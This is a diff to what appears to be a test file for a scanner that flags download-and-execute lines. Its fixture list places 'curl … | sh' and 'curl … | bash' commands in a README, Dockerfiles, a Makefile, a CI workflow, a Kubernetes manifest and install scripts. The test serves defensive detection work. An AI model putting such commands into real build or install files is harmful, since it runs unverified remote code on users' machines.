@@ -18,11 +18,13 @@ def _runs(path: str, text: str) -> list[int]:
 
 
 FILES = [
-    ("README.md", f"# Card\n\nprose `curl`\n\n```bash\nexport U={URL}\n```\n\nMore.\n\n```console\n$ curl $U | sh\n```\n", 12),
+    ("README.md", f"# Card\n\nprose `curl`\n\n```bash\nexport U={URL}\n```\n\nMore.\n\n"
+     "```console\n$ curl $U | sh\n```\n", 12),
     ("Dockerfile", f"FROM ubuntu\nARG U={URL}\nRUN apt-get update && \\\n    curl -s $U | bash\n", 4),
     ("Dockerfile", f'FROM ubuntu\nRUN ["sh", "-c", "curl -s {URL} | sh"]\n', 2),
     ("Makefile", f"serve:\n\t@curl -s {URL} | sh\n", 2),
-    (".github/workflows/ci.yml", f"jobs:\n  a:\n    steps:\n      - run: |\n          echo hi\n          curl -s {URL} | bash\n", 6),
+    (".github/workflows/ci.yml",
+     f"jobs:\n  a:\n    steps:\n      - run: |\n          echo hi\n          curl -s {URL} | bash\n", 6),
     ("k8s.yaml", f'spec:\n  containers:\n  - command: ["sh", "-c", "curl -s {URL} | sh"]\n', 3),
     ("install", f"#!/usr/bin/env bash\nset -e\ncurl -s {URL} | bash\n", 3),
     ("setup_env", f"export A=1\ncurl -s {URL} -o a\nbash a\n", 3),  # no shebang, reads as commands
